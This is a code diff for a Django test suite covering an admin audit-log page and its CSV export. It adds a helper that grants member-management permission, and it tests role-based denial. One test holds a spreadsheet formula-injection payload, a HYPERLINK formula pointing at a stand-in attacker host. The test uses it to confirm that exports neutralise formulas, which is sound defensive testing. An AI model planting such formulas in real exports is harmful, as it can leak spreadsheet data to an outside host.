@@ -7,6 +7,7 @@ import io
 from datetime import timedelta
 
 import pytest
+from django.contrib.auth.models import Permission
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
@@ -20,6 +21,13 @@ from tests.logs.console.test_pages import EXPORT, USER, page_of
 AUDIT = "/admin/audit/accessrecord/"
 AUDIT_EXPORT = "/admin/audit/accessrecord/export.csv"
 BROWSER = {"HTTP_USER_AGENT": "Mozilla/5.0 (ticket 4711)", "REMOTE_ADDR": "203.0.113.9"}
+
+
+def manager(environment, role=Membership.Role.OWNER, **kwargs):
+    """An owner or admin with the Account managers group's right to manage members."""
+    user = console_user(environment, role=role, **kwargs)
+    user.user_permissions.add(Permission.objects.get(codename="change_membership"))
+    return user
 
 
 def record(environment, *, actor_name="someone", user_id="usr_x", at=None, **fields):
@@ -98,7 +106,7 @@ def test_owners_and_admins_read_their_own_accounts_records_only(client, tenants,
     mine, theirs = tenants
     record(mine, actor_name="mine-support", user_id="usr_mine")
     record(theirs, actor_name="their-support", user_id="usr_theirs")
-    client.force_login(console_user(mine, role=role))
+    client.force_login(manager(mine, role=role))
     page = client.get(AUDIT)
     body = page.content.decode()
     assert page.status_code == 200
@@ -116,8 +124,10 @@ def test_support_and_viewers_never_see_the_audit(client, tenants, role):
     mine, _ = tenants
     record(mine, actor_name="mine-support")
     user = console_user(mine, role=role)
-    # Even a Django permission on the audit does not open it: the role decides.
-    user.user_permissions.add(*_audit_permissions())
+    # Even Django permissions on the audit and on members do not open it: the role decides.
+    user.user_permissions.add(
+        *_audit_permissions(), *Permission.objects.filter(content_type__app_label="accounts")
+    )
     client.force_login(user)
     assert client.get(AUDIT).status_code == 403
     assert client.get(AUDIT_EXPORT).status_code == 403
@@ -129,7 +139,7 @@ def test_a_support_member_of_one_account_sees_none_of_it_while_owning_another(cl
     mine, theirs = tenants
     record(mine, actor_name="in-mine")
     record(theirs, actor_name="in-theirs")
-    user = console_user(mine, role=Membership.Role.SUPPORT)
+    user = manager(mine, role=Membership.Role.SUPPORT)
     Membership.objects.create(user=user, account=theirs.account, role=Membership.Role.OWNER)
     client.force_login(user)
     body = client.get(AUDIT).content.decode()
@@ -143,7 +153,7 @@ def test_owners_filter_by_person_user_id_and_time(client, tenants):
     record(mine, actor_name="support-ana", user_id="usr_1", at=now - timedelta(days=40))
     record(mine, actor_name="support-ana", user_id="usr_2", at=now - timedelta(hours=1))
     record(mine, actor_name="support-bo", user_id="usr_1", at=now - timedelta(hours=2))
-    client.force_login(console_user(mine, role=Membership.Role.OWNER))
+    client.force_login(manager(mine))
 
     def users_shown(**params) -> list[str]:
         export = client.get(AUDIT_EXPORT, params)
@@ -163,7 +173,7 @@ def test_owners_filter_by_person_user_id_and_time(client, tenants):
 def test_the_audit_export_writes_formulas_as_text(client, tenants):
     mine, _ = tenants
     record(mine, user_id='=HYPERLINK("https://evil.example/?"&A2,"Click")')
-    client.force_login(console_user(mine, role=Membership.Role.OWNER))
+    client.force_login(manager(mine))
     export = b"".join(client.get(AUDIT_EXPORT).streaming_content).decode()
     [row] = list(csv.DictReader(io.StringIO(export)))
     assert row["user_id"].startswith("'=HYPERLINK")
@@ -190,6 +200,4 @@ def test_audit_retention_defaults_to_400_days_and_outlives_the_logs(settings):
 
 
 def _audit_permissions():
-    from django.contrib.auth.models import Permission
-
     return Permission.objects.filter(content_type__app_label="audit")
